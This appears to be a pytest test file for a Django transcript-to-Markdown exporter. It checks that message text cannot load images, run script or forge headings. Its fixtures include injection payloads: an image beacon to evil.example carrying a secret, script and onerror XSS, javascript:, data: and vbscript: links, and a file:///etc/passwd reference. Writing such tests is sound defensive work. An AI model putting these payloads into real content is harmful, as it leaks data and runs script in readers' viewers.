"""A transcript as a Markdown file: whoever opens it reads what was said, and nothing is loaded, run or forged."""

import re

import pytest
from pyromark import Options, events

from agents.tests.factories import AgentFactory
from conversations.models import Message
from conversations.staff.transcript_export import as_markdown
from conversations.tests.factories import MessageFactory, SessionFactory

pytestmark = pytest.mark.django_db

FORGED = "Fine.\n\n## Sam, 2026-01-05 10:00:00 UTC\n\nYou get 50 % off.\n# Ada"
BEACON = "![](https://evil.example/pixel?c=secret)"
HOSTILE = (
    BEACON,
    "![the price list][1]\n\n[1]: https://evil.example/pixel",
    '<img src="https://evil.example/pixel" onerror="alert(1)">',
    "<script>alert(1)</script>",
    "Yes.\n\n<div>\n<iframe src=https://evil.example></iframe>\n</div>",
    "[the form](javascript:alert(1))",
    "[the form](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "[the form]\n\n[the form]: vbscript:x",
    "> ![](file:///etc/passwd)",
    "| a | b |\n|---|---|\n| ![](//evil.example/p) | <svg onload=x> |",
    "```\ncode",
    "<!-- ",
    "<details><summary>x",
)


@pytest.fixture
def session(db):
    return SessionFactory(agent=AgentFactory(name="Ada"), title=f"Hi\n# Sam {BEACON}")


def of(session, text, role):
    MessageFactory(session=session, role=role, content=text)
    MessageFactory(session=session, content="Thank you.")
    return as_markdown(session)


def read(text):
    """What a program that shows Markdown makes of a text: headings, quoted words, and all that is no text."""
    headings, wild, words, depth, is_heading = [], [], [], 0, False
    for event in events(text, options=Options.ENABLE_TABLES):
        ((kind, value),) = event.items() if isinstance(event, dict) else ((event, None),)
        if kind in ("Html", "InlineHtml") or (kind == "Start" and isinstance(value, dict) and "Image" in value):
            wild.append(value)
        elif kind == "Start" and isinstance(value, dict) and "Link" in value:
            if re.match(r"(?!https?:|mailto:|tel:)[a-z]+:", value["Link"]["dest_url"]):
                wild.append(value)
        elif kind in ("Start", "End") and "BlockQuote" in str(value):
            depth += 1 if kind == "Start" else -1
        elif kind in ("Start", "End") and "Heading" in str(value):
            is_heading = kind == "Start" and not depth
            headings += [""] * is_heading
        elif kind in ("Text", "Code") and is_heading:
            headings[-1] += value
        elif kind in ("Text", "Code") and depth:
            words.append(value)
    return headings, wild, "".join(words)


@pytest.mark.parametrize("role", Message.Role.values)
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_a_message_is_loaded_or_run(session, text, role):
    _headings, wild, words = read(of(session, text, role))

    assert wild == []
    assert "Thank you." in words


@pytest.mark.parametrize("role", Message.Role.values)
@pytest.mark.parametrize("text", [FORGED, "a\n---\n## b", "```\n## b\n", "\t# b\n\n    ## c", "- a\n# b", "x\n=="])
def test_no_message_passes_for_another_entry(session, text, role):
    headings, _wild, _words = read(of(session, text, role))

    assert len(headings) == 3
    assert headings[0].startswith("Hi # Sam")
    assert headings[2].startswith("Visitor, ")


@pytest.mark.parametrize("text", ["2 * 3 * 4 < 25 & _so_ [on] ~50~ `x` \\ | #1", "1. one\n2) two", "- a\n+ b\n= c"])
@pytest.mark.parametrize("role", [Message.Role.USER, Message.Role.STAFF])
def test_what_people_write_is_read_as_they_wrote_it(session, text, role):
    _headings, _wild, words = read(of(session, text, role))

    assert words.startswith(text.replace("\n", ""))


def test_an_answer_keeps_its_form(session):
    answer = "It is **$2,400**, see [prices](https://shop.example/prices) or <https://shop.example>:\n\n- `a<b>`\n- b"

    written = of(session, answer, Message.Role.ASSISTANT)

    assert all(f"> {line}\n" in written for line in answer.split("\n") if line)


def test_names_of_agents_files_and_documents_are_words(session):
    session.agent.name = "Ada\n## Sam"
    MessageFactory(
        session=session,
        role=Message.Role.ASSISTANT,
        sources=[{"document": "Prices <b>\n## new"}],
        attached=[{"id": "1", "name": f"{BEACON}.png"}],
    )

    headings, wild, _words = read(as_markdown(session))

    assert wild == []
    assert len(headings) == 2
